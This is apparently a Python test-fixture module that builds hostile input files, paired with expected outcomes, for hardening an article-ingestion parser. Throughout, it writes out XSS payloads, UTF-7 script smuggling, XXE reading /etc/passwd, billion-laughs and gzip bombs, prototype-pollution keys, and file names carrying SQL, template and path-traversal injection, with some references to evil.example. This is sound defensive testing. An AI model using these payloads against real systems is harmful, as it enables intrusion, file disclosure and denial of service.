"""Hostile files, made here: what each is called, what is in it, and what is to become of it."""

from __future__ import annotations

import gzip
import json
from typing import NamedTuple

from tests.web.hostile.words import WORDS, article_of

__all__ = ["FILES", "Hostile"]

SENTENCE = "The council of Vell said on Monday that the gate of Ilm would stay closed until the water had gone down. "
BODY = SENTENCE * 3
PWN = "window.__pwned=1"


class Hostile(NamedTuple):
    """One hostile file: `articles` are read from it, and a rejection, if there is one, says `reason`."""

    name: str
    content: bytes
    articles: int = 1
    reason: str | None = None


def page(head: str = "", inside: str = "", title: str = "Gates") -> bytes:
    """Return a page with an article, and something hostile in its head and in the midst of it."""
    paragraphs = "".join(f"<p>{SENTENCE * 2}</p>{inside}" for _ in range(3))
    return (
        f"<!doctype html><html><head><title>{title}</title>{head}</head><body><article><h1>{title}</h1>{paragraphs}"
        "</article></body></html>"
    ).encode()


def line(**fields: object) -> bytes:
    """Return a line of JSON with an article, some of its fields hostile."""
    return json.dumps({"text": BODY, **fields}).encode() + b"\n"


def _words() -> list[Hostile]:
    return [Hostile(f"words-{name}.jsonl", article_of(words)) for name, words in WORDS.items()]


def _texts() -> list[Hostile]:
    body = BODY.encode()
    return [
        Hostile("nul.txt", body + b"\0" + body, 0, "binary"),
        Hostile("binary.txt", bytes(range(256)) * 50, 0, "binary"),
        Hostile("picture.txt", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(400), 0, "binary"),
        Hostile("escapes.txt", b"\x1b[2J\x1b]0;x\x07" + body),
        Hostile("half-utf16.txt", b"\xff\xfe" + BODY.encode("utf-16-le")[:-1]),
        Hostile("utf32.txt", BODY.encode("utf-32")),
        Hostile("marks-in-the-middle.txt", "\ufeff".join([SENTENCE] * 4).encode()),
        Hostile("mixed.txt", "“Élan,” said Tomas Brell. ".encode() + "“Élan,” said Tomas Brell. ".encode("cp1252") + body),
        Hostile("overlong.txt", b"\xc0\xbcscript\xc0\xbe" + body),
        Hostile("surrogates.txt", b"\xed\xa0\x80\xed\xb0\x80" + body),
        Hostile("utf7.txt", b"+ADw-script+AD4-" + PWN.encode() + b"+ADw-/script+AD4- " + body),
        Hostile("page.txt", page(inside=f"<script>{PWN}</script><img src=x onerror={PWN}>")),
        Hostile("white.txt", b" \t\n\xc2\xa0\xe3\x80\x80" * 300, 0, "empty"),
        Hostile("nothing.txt", b"", 0, "empty"),
        Hostile("one-word.txt", b"x" * 300_000),
        Hostile("no-full-stop.txt", b"said that they said " * 200),
        Hostile("quotations.txt", "“".encode() * 400 + body),
        Hostile("nested-quotations.txt", ("“He said ‘she said " * 40 + "no" + "’” " * 40).encode() + body),
        Hostile("lines.txt", b"a\n" * 2_000),
        Hostile("dates.txt", (BODY + "It was on 31 February 99999, on 0 May, at 25:99, in 10000 BC, 5/5/0000. ").encode()),
        Hostile("amounts.txt", (BODY + f"Some {'9' * 3_000} men, 1e999 dollars, 0/0, -{'1,' * 300}1 dead. ").encode()),
        Hostile("returns.txt", BODY.replace(". ", ".\r").encode() + b"\r\r\n\n\r" + body),
    ]


def _pages() -> list[Hostile]:
    handlers = " ".join(f"on{event}={PWN}" for event in ("load", "error", "click", "focus", "mouseover", "toggle"))
    ld = json.dumps(
        {
            "@type": "NewsArticle",
            "headline": f"</script><script>{PWN}</script>",
            "author": [{"name": f"<img src=x onerror={PWN}>", "url": f"javascript:{PWN}"}] * 500,
            "datePublished": "+99999-13-32T99:99:99Z",
            "url": f"javascript:{PWN}",
            "publisher": {"name": {"name": [{"name": "=1+1"}]}},
        }
    )
    deep_ld = '{"@graph":' + "[" * 3_000 + "]" * 3_000 + "}"
    links = f'<link rel=canonical href="javascript:{PWN}"><meta property=og:url content="data:text/html,x">'
    return [
        Hostile("scripts.html", page(f"<script>{PWN}</script>", f"<script src=//evil.example></script><p {handlers}>x</p>")),
        Hostile("svg.html", page(inside=f"<svg onload={PWN}><script>{PWN}</script><a xlink:href='javascript:{PWN}'>x</a></svg>")),
        Hostile("embeds.html", page(inside="<iframe src=//evil.example></iframe><object data=//evil.example></object><embed src=x>")),
        Hostile("forms.html", page(inside="<form action=//evil.example><input autofocus name=p><button>Go</button></form>")),
        Hostile("refresh.html", page("<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>")),
        Hostile("json-ld.html", page(f"<script type=application/ld+json>{ld}</script>")),
        Hostile("json-ld-deep.html", page(f"<script type=application/ld+json>{deep_ld}</script>")),
        Hostile("addresses.html", page(links, title=f"javascript:{PWN}")),
        Hostile("entities.html", page(inside=f"&lt;script&gt;{PWN}&lt;/script&gt;&#0;&#xD800;&#x202E;&#1114112;&#x1b;[2J")),
        Hostile("deep.html", page(inside="<div>" * 20_000 + "x" + "</div>" * 20_000), 0, "nested"),
        Hostile("deep-inline.html", page(inside="<b><i>" * 5_000 + "x"), 0, "nested"),
        Hostile("attributes.html", page(inside="<p " + " ".join(f"a{i}=1" for i in range(5_000)) + ">x</p>")),
        Hostile("comment.html", page(inside="<!-- never closed ")),
        Hostile("charset.html", page("<meta charset=utf-16>")),
        Hostile("charset-utf7.html", page("<meta charset=utf-7>", "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-")),
        Hostile("charset-unknown.html", page("<meta charset='../../etc/passwd'>")),
        Hostile("laughs.html", _laughs() + page()),
        Hostile("outside.html", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + page(inside="&x;")),
        Hostile("tables.html", page(inside="<table><tr><td>" * 2_000), 0, "nested"),
    ]  # fmt: skip


def _laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "lol">{entities}]><l>&l11;</l>'.encode()


def _lines() -> list[Hostile]:
    return [
        Hostile("surrogate.jsonl", b'{"text": "\\ud800 ' + BODY.encode() + b'"}\n', 0, "surrogate"),
        Hostile("surrogate-title.jsonl", b'{"text": "' + BODY.encode() + b'", "title": "x\\udfff", "id": "s\\ud800"}\n'),
        Hostile("nul.jsonl", line(id="nul", text=BODY + "\0" + BODY), 0, "binary"),
        Hostile("deep.jsonl", b'{"text":' + b"[" * 100_000 + b"]" * 100_000 + b"}\n", 0, "nested|string"),
        Hostile("huge-number.jsonl", b'{"text": "' + BODY.encode() + b'", "id": ' + b"9" * 5_000 + b', "date": 1e999}\n', 0, "JSON|digit"),
        Hostile("not-a-number.jsonl", line(id=float("nan"), title=float("inf"), date=-1)),
        Hostile("twice.jsonl", b'{"text": "x", "text": "' + BODY.encode() + b'", "id": "twice", "id": "twice again"}\n'),
        Hostile("prototype.jsonl", line(**{"__proto__": {"text": "x"}, "constructor": 1, "id": "constructor"})),
        Hostile("dates.jsonl", b"".join(line(id=f"date {d}", date=d) for d in ("99999-99-99", "0000-00-00", "-1", "9" * 400)), 4),
        Hostile("same-id.jsonl", line(id="same", title="One") + line(id="same", title="Two"), 1, "taken"),
        Hostile("types.jsonl", line(id=["a", {"b": 1}], title={"x": []}, outlet=True, author=[[["x"]]], url=0)),
        Hostile("empty-names.jsonl", line(id="\u200b", title=" ", outlet="\u200b\u2060", author="\u00ad")),
        Hostile("lines.jsonl", b"\n" * 10_000 + b"x\n" * 3 + line(id="after the lines"), 1, "JSON"),
    ]  # fmt: skip


def _packed() -> list[Hostile]:
    body = BODY.encode()
    return [
        Hostile("bomb.txt.gz", gzip.compress(bytes(200 * 2**20), 9), 0, "larger"),
        Hostile("bomb-in-bomb.txt.gz", gzip.compress(gzip.compress(bytes(2**20))), 0, "binary"),
        Hostile("cut.txt.gz", gzip.compress(body)[:-20], 0, "damaged"),
        Hostile("trailing.txt.gz", gzip.compress(body) + b"garbage" * 9, 0, "damaged"),
        Hostile("no-gzip.txt.gz", body, 0, "damaged"),
        Hostile("many-members.txt.gz", gzip.compress(b"Vell said no. ") * 200),
        Hostile("line.jsonl.gz", gzip.compress(b'{"text": "' + b"x" * (50 * 2**20) + b'"}\n' + line(id="after it")), 1, "a line of"),
        Hostile("large.html.gz", gzip.compress(b"<p>" + b"x" * (50 * 2**20)), 0, "larger"),
    ]  # fmt: skip


def _names() -> list[Hostile]:
    names = [
        "<img src=x onerror=window.__pwned=1>.txt",
        "new\nline\r\tin its name.txt",
        "\x1b[31mred\x07.txt",
        "left\u202etxt.exe.txt",
        "=1+1 @x.txt",
        "'; DROP TABLE record; --.txt",
        "%2e%2e%2f?story=x#y.txt",
        "{{ 7 * 7 }}.txt",
        "..\\..\\up.txt",
        "-o --format.txt",
        "x" * 240 + ".txt",
        "bytes-\udcff\udcfe.txt",
    ]
    return [Hostile(name, (BODY + f"It was article {i}.").encode()) for i, name in enumerate(names)] + [
        Hostile("no kind", b"x", 0, "kind"),
        Hostile("program.exe", b"MZ", 0, "kind"),
    ]


FILES: list[Hostile] = [*_words(), *_texts(), *_pages(), *_lines(), *_packed(), *_names()]
